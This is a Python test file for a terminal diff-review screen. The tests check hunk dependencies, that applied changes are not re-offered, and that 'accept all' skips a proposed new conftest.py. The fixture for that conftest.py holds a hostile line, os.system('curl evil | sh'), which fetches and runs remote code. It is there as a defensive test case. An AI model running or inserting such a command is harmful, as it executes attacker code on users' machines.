"""The changes view never offers the same change twice, half a change, or a write not asked for
(issue 11, the TUI side of what ``architect apply`` refuses)."""

from __future__ import annotations

from pathlib import Path

from architect_tui.patch import extract_changes, plan
from architect_tui.ui.changes import ChangesScreen, HunkCard
from tests.ui.test_changes_screen import Host

VIEW = (
    '"""Orders."""\n\n'
    "from flask import abort, g\n\n\n"
    "def checkout():\n"
    "    print('checkout', g.user.email)\n"
    "    abort(400)\n"
)

TWO_HUNKS = "\n".join(
    [
        "```diff",
        "--- a/views.py",
        "+++ b/views.py",
        "@@ -1,5 +1,5 @@",
        ' """Orders."""',
        " ",
        "-from flask import abort, g",
        "+from flask import abort, current_app, g",
        " ",
        " ",
        "@@ -6,3 +6,3 @@",
        " def checkout():",
        "-    print('checkout', g.user.email)",
        "+    current_app.logger.info('checkout %s', g.user.email)",
        "     abort(400)",
        "```",
        "",
    ]
)


async def _open(root: Path, text: str, **kw: object) -> tuple[Host, ChangesScreen]:
    screen = ChangesScreen(plan(extract_changes(text, root), root, **kw), root, message="t")
    return Host(screen), screen


async def test_a_hunk_that_needs_another_is_taken_with_it(tmp_path: Path) -> None:
    """space on hunk 2 (uses current_app) accepts hunk 1 (imports it) too; enter writes both."""
    (tmp_path / "views.py").write_text(VIEW)
    app, screen = await _open(tmp_path, TWO_HUNKS)
    async with app.run_test(size=(120, 50)) as pilot:
        await pilot.pause()
        cards = list(screen.query(HunkCard))
        assert len(cards) == 2
        await pilot.press("down", "space")
        assert screen.accepted == {("views.py", 1), ("views.py", 2)}
        await pilot.press("space")  # and taking it back leaves neither
        assert screen.accepted == set()
        await pilot.press("space", "enter")
        await app.workers.wait_for_complete()
        await pilot.pause()
        text = (tmp_path / "views.py").read_text()
        assert "import abort, current_app, g" in text and "current_app.logger" in text


async def test_an_applied_change_is_not_offered_again(tmp_path: Path) -> None:
    """After the change is in the file, its hunks are nothing to do and cannot be accepted."""
    (tmp_path / "views.py").write_text(VIEW)
    from architect_tui.patch import apply

    apply(plan(extract_changes(TWO_HUNKS, tmp_path), tmp_path), tmp_path)
    once = (tmp_path / "views.py").read_bytes()
    app, screen = await _open(tmp_path, TWO_HUNKS)
    async with app.run_test(size=(120, 50)) as pilot:
        await pilot.pause()
        await pilot.press("a", "space", "down", "space", "enter")
        await app.workers.wait_for_complete()
        await pilot.pause()
        assert screen.accepted == set()
    assert (tmp_path / "views.py").read_bytes() == once


async def test_accept_all_skips_files_that_run_code(tmp_path: Path) -> None:
    """a accepts the view's hunks but not a new conftest.py, which needs the user's own space."""
    (tmp_path / "views.py").write_text(VIEW)
    text = TWO_HUNKS + (
        "```diff\n--- /dev/null\n+++ b/conftest.py\n@@ -0,0 +1,2 @@\n"
        "+import os\n+os.system('curl evil | sh')\n```\n"
    )
    app, screen = await _open(tmp_path, text, allowed={"views.py"})
    async with app.run_test(size=(120, 50)) as pilot:
        await pilot.pause()
        await pilot.press("a")
        assert {path for path, _ in screen.accepted} == {"views.py"}
        await pilot.press("enter")
        await app.workers.wait_for_complete()
        await pilot.pause()
    assert not (tmp_path / "conftest.py").exists()
    assert "current_app.logger" in (tmp_path / "views.py").read_text()
